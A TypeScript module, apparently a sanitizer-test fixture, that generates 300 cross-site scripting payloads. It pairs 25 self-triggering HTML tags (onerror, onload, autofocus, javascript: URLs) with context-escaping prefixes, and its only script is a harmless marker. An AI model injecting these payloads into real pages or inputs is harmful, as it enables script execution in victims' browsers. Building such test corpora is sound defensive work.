/** Texts that run as script wherever they are taken for HTML, an attribute, an address, a style, a template or a formula. */
const CODE = 'globalThis.__ran=1';

/** Each tag with what makes it run, by itself or at the first touch. */
const TAGS = [
  `<script>${CODE}</script>`,
  `<script src="data:text/javascript,${CODE}"></script>`,
  `<img src=x onerror="${CODE}">`,
  `<svg onload="${CODE}">`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin="${CODE}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>top.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:top.__ran=1"></iframe>`,
  `<body onload="${CODE}">`,
  `<details open ontoggle="${CODE}">`,
  `<video><source onerror="${CODE}"></video>`,
  `<audio src=x onerror="${CODE}">`,
  `<input autofocus onfocus="${CODE}">`,
  `<a href="javascript:${CODE}">x</a>`,
  `<math href="javascript:${CODE}">x</math>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<style>@import "javascript:${CODE}";</style>`,
  `<link rel=stylesheet href="javascript:${CODE}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<base href="javascript:${CODE}//">`,
  `<form action="javascript:${CODE}"><button autofocus>x</button></form>`,
  `<marquee onstart="${CODE}">x</marquee>`,
  `<div style="animation:x 1s" onanimationstart="${CODE}"></div>`,
  `<template><img src=x onerror="${CODE}"></template>`,
];

/** What stands before it, to leave the place where a text usually stands. */
const ESCAPES = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '{{',
  '${',
  '`',
];

/** Three hundred, all different and each within one line's limit. */
export const PAYLOADS: readonly string[] = ESCAPES.flatMap((escape) => TAGS.map((tag) => escape + tag)).slice(0, 300);

/** A payload by turns. */
export function payload(at: number): string {
  return PAYLOADS[at % PAYLOADS.length] ?? '';
}
